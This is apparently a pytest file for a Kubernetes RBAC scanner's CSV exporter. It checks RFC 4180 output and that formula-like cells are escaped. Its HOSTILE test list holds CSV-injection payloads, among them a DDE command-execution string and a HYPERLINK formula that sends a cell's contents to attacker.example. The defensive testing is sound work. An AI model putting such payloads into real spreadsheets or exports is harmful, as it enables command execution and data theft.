"""CSV output: RFC 4180, one row per finding of every cluster, in the columns docs/formats.md
documents, and no cell a spreadsheet would run as a formula (OWASP, CSV Injection)."""

import csv
import io
import re
from datetime import UTC, datetime
from importlib import resources
from pathlib import Path

import pytest

from mutguard.cli import EXIT_OK, main
from mutguard.models import Area, Remediation, Report, Status
from mutguard.providers import snapshot
from mutguard.render import render
from mutguard.scan import build_report

from builders import (
    OBSERVED_AT,
    assess,
    cluster_role_binding,
    describe_cluster,
    new_finding,
    rbac_list,
)

REPO = Path(__file__).parents[1]
AS_OF = "2026-06-01"
# What OWASP names as the start of a formula (= + - @ tab CR) and ASVS 1.2.10 adds (NUL).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "'=already quoted",
    'a, "quoted" <tag> ]]> cell;\nwith a line break and é 中',
]
FIELDS = ("cli", "terraform", "console")  # a remediation's, each in a column of its own
REMEDIATION_COLUMNS = tuple(f"remediation_{field}" for field in FIELDS)


def documented_columns() -> list[str]:
    section = (REPO / "docs" / "formats.md").read_text().split("## CSV", 1)[1]
    section = section.split("\n## ", 1)[0]
    return re.findall(r"^\| `([a-z_]+)` \|", section, re.MULTILINE)


def records(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def as_dicts(text: str) -> list[dict[str, str]]:
    header, *rows = records(text)
    return [dict(zip(header, row, strict=True)) for row in rows]


def unescaped(cell: str) -> str:
    """The documented rule undone: a cell that starts with ' had one added."""
    return cell[1:] if cell.startswith("'") else cell


def demo_report() -> Report:
    demo = Path(str(resources.files("mutguard") / "demo"))
    return build_report(snapshot.read(demo), datetime.fromisoformat(AS_OF).replace(tzinfo=UTC))


@pytest.fixture(scope="module")
def demo_csv(tmp_path_factory) -> str:
    target = tmp_path_factory.mktemp("csv") / "demo.csv"
    assert main(["demo", "--format", "csv", "--as-of", AS_OF, "-o", str(target)]) == EXIT_OK
    return target.read_bytes().decode("utf-8")


def hostile_report() -> Report:
    """A cluster and a binding named by an attacker, scanned for real, plus findings whose
    resources start with each character a spreadsheet reads as a formula."""
    binding = cluster_role_binding(
        HOSTILE[0], "cluster-admin", ("User", HOSTILE[4]), ("Group", "system:unauthenticated")
    )
    cluster = assess(describe_cluster(HOSTILE[1]), rbac=rbac_list(binding), access_entries=[])
    findings = [
        new_finding(
            "rbac.wildcard",
            Status.FAIL,
            name,
            name,
            provider=cluster.provider,
            title=name,
            area=Area.PRIVILEGED_ACCESS,
            remediation=Remediation(summary=name, cli=name, terraform=name, console=name),
            mut_gain=1,
            mut_gain_from=("internet",),
        )
        for name in HOSTILE
    ]
    cluster = cluster.model_copy(update={"findings": [*cluster.findings, *findings]})
    return Report(generated_at=OBSERVED_AT, clusters=[cluster])


def test_the_header_is_the_documented_columns(demo_csv):
    columns = documented_columns()
    assert len(columns) > 10
    assert records(demo_csv)[0] == columns
    assert demo_csv.startswith(",".join(f'"{c}"' for c in columns) + "\r\n")


def test_one_row_per_finding_of_every_cluster(demo_csv):
    report = demo_report()
    rows = as_dicts(demo_csv)
    assert len(rows) == sum(len(c.findings) for c in report.clusters)
    assert [r["cluster"] for r in rows] == [c.name for c in report.clusters for _ in c.findings]
    assert {r["cluster"] for r in rows} == {c.name for c in report.clusters}
    failed = {
        (c.arn_or_id, f.check_id, f.resource)
        for c in report.clusters
        for f in c.findings
        if f.status is Status.FAIL
    }
    assert failed
    shown = {(r["cluster_id"], r["check_id"], r["resource"]) for r in rows if r["status"] == "FAIL"}
    assert shown == failed


def test_cells_hold_the_findings_values(demo_csv):
    report = demo_report()
    rows = iter(as_dicts(demo_csv))
    for cluster in report.clusters:
        for finding in cluster.findings:
            row = next(rows)
            assert row["generated_at"] == "2026-06-01T00:00:00Z"
            assert (row["provider"], row["account"], row["location"]) == (
                cluster.provider.value,
                cluster.account,
                cluster.location,
            )
            assert row["cluster_mut"] == ("" if cluster.mut is None else str(cluster.mut))
            assert (row["status"], row["severity"], row["area"]) == (
                finding.status.value,
                finding.severity.value,
                finding.area.value,
            )
            assert unescaped(row["detail"]) == finding.detail
            fix = finding.remediation
            assert unescaped(row["remediation"]) == fix.summary
            assert [unescaped(row[f"remediation_{field}"]) for field in FIELDS] == [
                getattr(fix, field) or "" for field in FIELDS
            ]
            # Only a FAIL has a MUT gain; for the others the report holds null.
            assert row["mut_gain"] == ("" if finding.mut_gain is None else str(finding.mut_gain))
            assert row["mut_gain_from"].split() == finding.mut_gain_from
            assert all(url.startswith("https://") for url in row["references"].split())
    assert {r["status"] for r in as_dicts(demo_csv)} >= {"PASS", "FAIL", "UNKNOWN"}


def test_every_cell_is_quoted_and_every_record_ends_in_crlf(demo_csv):
    # RFC 4180 written in full: every field in double quotes, quotes doubled, CRLF after each
    # record; parsing and writing that way again gives the same bytes.
    again = io.StringIO()
    csv.writer(again, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(records(demo_csv))
    assert again.getvalue() == demo_csv
    assert demo_csv.endswith('"\r\n')


def test_no_cell_starts_a_formula_and_the_escape_can_be_undone():
    report = hostile_report()
    text = render(report, "csv")
    rows = as_dicts(text)
    (cluster,) = report.clusters
    assert len(rows) == len(cluster.findings)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
    assert {unescaped(r["cluster"]) for r in rows} == {HOSTILE[1]}
    assert rows[0]["cluster"] == "'" + HOSTILE[1]
    added = rows[-len(HOSTILE) :]
    for name, row in zip(HOSTILE, added, strict=True):
        for column in ("title", "resource", "detail", "remediation", *REMEDIATION_COLUMNS):
            assert unescaped(row[column]) == name
            assert row[column] == ("'" + name if name.startswith((*FORMULA_START, "'")) else name)
    # The binding's name and subject reach the findings of the real checks, escaped as well.
    scanned = [r for r in rows[: -len(HOSTILE)] if HOSTILE[0] in r["resource"]]
    assert any(HOSTILE[4] in r["detail"] for r in scanned)


def test_a_lone_surrogate_is_written_as_an_escape():
    report = hostile_report()
    (cluster,) = report.clusters
    finding = cluster.findings[-1].model_copy(update={"resource": "pod-\ud800-name"})
    report = report.model_copy(
        update={"clusters": [cluster.model_copy(update={"findings": [finding]})]}
    )
    text = render(report, "csv")
    text.encode("utf-8")
    assert as_dicts(text)[0]["resource"] == "pod-\\ud800-name"


def test_the_time_is_the_reports_and_the_output_is_stable():
    report = hostile_report()
    assert render(report, "csv") == render(report, "csv")
    later = report.model_copy(update={"generated_at": datetime(2031, 2, 3, 4, 5, 6, tzinfo=UTC)})
    assert {r["generated_at"] for r in as_dicts(render(later, "csv"))} == {"2031-02-03T04:05:06Z"}
